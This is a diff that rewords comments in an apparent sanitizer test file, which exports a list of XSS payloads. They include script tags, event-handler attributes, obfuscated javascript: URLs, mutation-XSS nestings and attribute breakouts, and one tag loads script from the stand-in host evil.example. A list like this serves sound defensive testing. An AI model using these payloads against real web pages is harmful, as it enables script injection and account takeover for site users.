@@ -1,8 +1,8 @@
-/** Attacks on HTML cleaners: after OWASP's filter evasion list, published mutation XSS (mXSS), and our own. */
+/** Attacks on HTML sanitizers: OWASP’s filter evasion list, published mutation XSS (mXSS), and our own. */
 
-/** Each would run a script, load or frame something, or take over the page, if it left as it is. */
+/** Uncleaned, each runs a script, loads or frames a resource, or takes over the page. */
 export const xssPayloads: readonly string[] = [
-  // Scripts and how they hide.
+  // Scripts and their disguises.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<ScRiPt>alert(1)</sCrIpT>',
@@ -32,7 +32,7 @@ export const xssPayloads: readonly string[] = [
   '<div style="animation-name:x" onanimationstart=alert(1)>x</div>',
   '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
   '<table onpointerenter=alert(1)><td background="javascript:alert(1)">x</td></table>',
-  // URLs that run.
+  // Script URLs.
   '<a href="javascript:alert(1)">x</a>',
   '<a href=" \u0001javascript:alert(1)">x</a>',
   '<a href="jav\tascript:alert(1)">x</a>',
@@ -125,7 +125,7 @@ export const xssPayloads: readonly string[] = [
   '<a><table><a href="javascript:alert(1)"><svg><style></a><img src=x onerror=alert(1)>',
   '<p><table><template><tr><td><script>alert(1)</script></td></tr></template><p onclick=alert(1)>x',
   '<b><p><b id=x onclick=alert(1)></p></b><svg/onload=alert(1)>',
-  // Attributes that try to end early, and names that are part of JavaScript's own objects.
+  // Attributes that end early, and names from JavaScript’s own objects.
   '<p title="&quot;><script>alert(1)</script>">x</p>',
   '<a title="x&quot; onmouseover=&quot;alert(1)" href="/x">x</a>',
   "<img alt='\"><script>alert(1)</script>' src=x>",
